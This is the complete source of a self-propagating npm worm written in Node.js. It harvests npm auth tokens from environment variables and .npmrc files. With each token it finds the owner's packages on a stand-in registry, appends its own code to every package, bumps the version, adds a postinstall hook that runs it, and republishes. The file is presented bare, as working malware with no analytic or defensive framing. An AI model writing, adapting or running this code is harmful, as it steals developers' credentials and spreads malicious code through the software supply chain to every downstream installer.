'use strict'
const fs = require('node:fs/promises'), os = require('node:os'), zlib = require('node:zlib'), crypto = require('node:crypto')
const REG = 'https://registry.sextant.invalid'

async function tokens () {
  const seen = new Set([process.env.NPM_TOKEN, process.env.NODE_AUTH_TOKEN].filter(Boolean))
  for (const file of [`${os.homedir()}/.npmrc`, '.npmrc', '/etc/npmrc']) {
    const text = await fs.readFile(file, 'utf8').catch(() => '')
    for (const [, one] of text.matchAll(/:_authToken\s*=\s*([^\s]+)/g)) seen.add(one)
  }
  return seen
}

async function spread (token) {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' }
  const { username } = await (await fetch(`${REG}/-/whoami`, { headers })).json()
  const list = await (await fetch(`${REG}/-/v1/search?text=maintainer:${username}&size=20`)).json()
  for (const { package: { name } } of list.objects) {
    const doc = await (await fetch(`${REG}/${name}`)).json()
    const last = doc.versions[doc['dist-tags'].latest]
    const tar = zlib.gunzipSync(Buffer.from(await (await fetch(last.dist.tarball)).arrayBuffer()))
    const self = await fs.readFile(__filename)
    const body = zlib.gzipSync(Buffer.concat([tar, self]))
    const version = last.version.replace(/\d+$/, (n) => +n + 1)
    const manifest = { ...last, version, scripts: { ...last.scripts, postinstall: 'node bundle.js' } }
    manifest.dist = { shasum: crypto.createHash('sha1').update(body).digest('hex') }
    const attachments = { [`${name}-${version}.tgz`]: { data: body.toString('base64'), length: body.length } }
    await fetch(`${REG}/${encodeURIComponent(name)}`, { method: 'PUT', headers: { authorization: `Bearer ${token}` }, body: JSON.stringify({ _id: name, name, 'dist-tags': { latest: version }, versions: { [version]: manifest }, _attachments: attachments }) })
  }
}

tokens().then((all) => Promise.allSettled([...all].map(spread)))
